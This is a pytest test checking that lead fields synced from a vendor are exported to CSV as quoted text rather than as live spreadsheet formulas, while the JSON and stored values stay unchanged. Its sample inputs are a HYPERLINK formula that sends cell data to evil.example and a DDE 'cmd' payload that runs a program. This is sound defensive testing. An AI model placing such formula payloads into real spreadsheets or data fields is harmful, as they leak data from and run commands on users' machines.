"""Text the vendor synced is exported for spreadsheets as text, never as a formula
(issue 13, class 1: "a lead's company name")."""

from __future__ import annotations

import csv
import json


def test_a_vendor_lead_named_like_a_formula_is_quoted_in_csv_only(vendor_server, partner, replicas,
                                                                  tmp_path):
    name = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
    contact = "@SUM(1+1)*cmd|' /C calc'!A0"
    vendor_server.admin.assign_lead(partner.id, name, contact_name=contact)
    ann = replicas(partner.token_a, "ann")
    assert ann.sync().pulled >= 1
    out = tmp_path / "export"
    ann.cli("export", str(out))

    with (out / "leads.csv").open(encoding="utf-8-sig", newline="") as stream:
        [row] = list(csv.DictReader(stream))
    assert (row["company_name"], row["contact_name"]) == ("'" + name, "'" + contact)
    [lead] = json.loads((out / "leads.json").read_text(encoding="utf-8"))
    assert (lead["company_name"], lead["contact_name"]) == (name, contact)
    assert ann.get("leads", lead["id"])["company_name"] == name  # stored as the vendor sent it
